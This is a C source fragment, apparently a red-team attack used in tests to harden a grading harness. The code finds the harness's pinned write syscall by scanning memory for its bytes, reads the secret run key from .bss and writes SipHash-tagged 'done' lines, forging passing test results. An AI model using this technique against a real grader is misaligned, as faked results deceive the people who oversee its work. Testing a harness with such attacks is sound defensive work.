/* pin_forge.c (hostile, shared): the forger of red team 10, pasted into the attacks that use
 * it where they say @SHARED pin_forge@ (tests/mutant_patch.py expand; not a file of its own
 * when graded). It needs <stdint.h>, <stdio.h>, <string.h> and <unistd.h>.
 *
 * Our pinned write, pin_syscall (done.c), found by its bytes forward from `from` (student
 * code in the same runner): mov %rsi,%rdx; movslq %edi,%rdi; mov $1,%eax;
 * lea pin_buf(%rip),%rsi; syscall; ret. pin_buf's address comes from the lea, the run's key
 * from done.o's .bss 0x70 bytes before it; then one "done <test> <pid> <tag>" line per name,
 * tagged with that key, copied into pin_buf and written through a function pointer to
 * pin_syscall: the write comes from our instruction with our buffer, so the pin lets it
 * through. Returns -1 when the pin was not found, else how many lines it refused (0: all
 * sent). */

/* @SIPHASH pin_forge_sip@: our copy of the harness's SipHash-2-4, pasted here when planted */

static const unsigned char pin_forge_pat[] = {0x48, 0x89, 0xf2, 0x48, 0x63, 0xff, 0xb8,
                                              0x01, 0x00, 0x00, 0x00, 0x48, 0x8d, 0x35};

static const unsigned char *pin_forge_find(const void *from)
{
    const unsigned char *p = (const unsigned char *)from;
    for (size_t off = 0; off < (4u << 20); off++)
        if (p[off] == 0x48 && !memcmp(p + off, pin_forge_pat, sizeof(pin_forge_pat)) &&
            p[off + 18] == 0x0f && p[off + 19] == 0x05)
            return p + off;
    return NULL;
}

static int pin_forge(const void *from, const char *const *names, size_t count)
{
    const unsigned char *f = pin_forge_find(from);
    int32_t disp;
    char *pin_buf, line[300];
    uint64_t k[2];
    long (*pin)(int, size_t);
    int refused = 0;

    if (!f)
        return -1;
    memcpy(&disp, f + 14, 4);
    pin_buf = (char *)(uintptr_t)(f + 18 + disp);
    memcpy(k, pin_buf - 0x70, 16); /* run_key: done.o's .bss, 0x70 before pin_buf */
    pin = (long (*)(int, size_t))(uintptr_t)f;
    for (size_t i = 0; i < count; i++) {
        int n = snprintf(line, sizeof(line), "done %s %d", names[i], (int)getpid());
        n += snprintf(line + n, sizeof(line) - (size_t)n, " %016llx\n",
                      (unsigned long long)pin_forge_sip(k, line, (size_t)n));
        memcpy(pin_buf, line, (size_t)n);
        refused += pin(1000, (size_t)n) < 0;
    }
    return refused;
}
